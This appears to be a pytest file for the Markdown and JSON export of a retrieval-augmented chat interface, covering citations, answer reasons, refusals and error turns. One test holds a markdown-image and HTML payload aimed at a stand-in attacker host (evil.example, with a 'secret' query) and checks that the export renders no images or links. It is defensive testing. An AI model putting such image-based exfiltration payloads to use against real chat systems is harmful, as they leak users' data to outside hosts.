import json
from dataclasses import replace

from markdown_it import MarkdownIt

from core.errors import BadInput
from core.ui.rag.export import as_json, as_markdown
from core.ui.rag.state import ChatSettings, Turn


def test_markdown_holds_question_answer_citation_and_passage(make_turn):
    text = as_markdown([make_turn()])
    assert "## How many days?" in text
    assert r"Porto has 25 days. \[1\]" in text
    assert "leave.md · Leave › Annual · page 3, score 0.57" in text


def test_markdown_of_a_hostile_document_loads_no_image_and_has_no_link(make_turn):
    evil = "![x](http://evil.example/?q=secret)\n\n<img src=http://evil.example>\n\n[a](http://evil.example)"
    rendered = MarkdownIt("commonmark").render(as_markdown([make_turn(evil, question=evil, document=evil)]))
    assert "<img" not in rendered
    assert "<a " not in rendered


def test_what_an_answer_leaves_open_is_exported_with_it(make_turn):
    told = "No sentence was found that answers “who repairs it”."
    turn = make_turn()
    turn = replace(turn, answer=replace(turn.answer, reason=told))
    assert f"\n\n{told}\n" in as_markdown([turn])


def test_json_holds_everything_that_was_known(make_turn):
    (turn,) = json.loads(as_json([make_turn()]))
    assert turn["settings"]["k"] == 4
    assert turn["answer"]["sentences"][0]["support"] == 1.0
    assert turn["answer"]["passages"][0]["scores"]["vector"] == 0.75
    assert turn["problem"] is None


def test_a_refusal_a_failure_and_a_stopped_turn_are_exported_as_what_they_are(make_turn):
    settings = ChatSettings(4, "hybrid", "auto")
    turns = [
        make_turn(refused=True),
        Turn("Broken?", settings, problem=BadInput("The store is damaged", "Delete it.")),
        Turn("Stopped?", settings),
    ]
    text = as_markdown(turns)
    assert "Nothing about it." in text
    assert "The store is damaged" in text
    assert "Stopped." in text
    assert [turn["problem"] for turn in json.loads(as_json(turns))][1] == {
        "message": "The store is damaged",
        "hint": "Delete it.",
    }
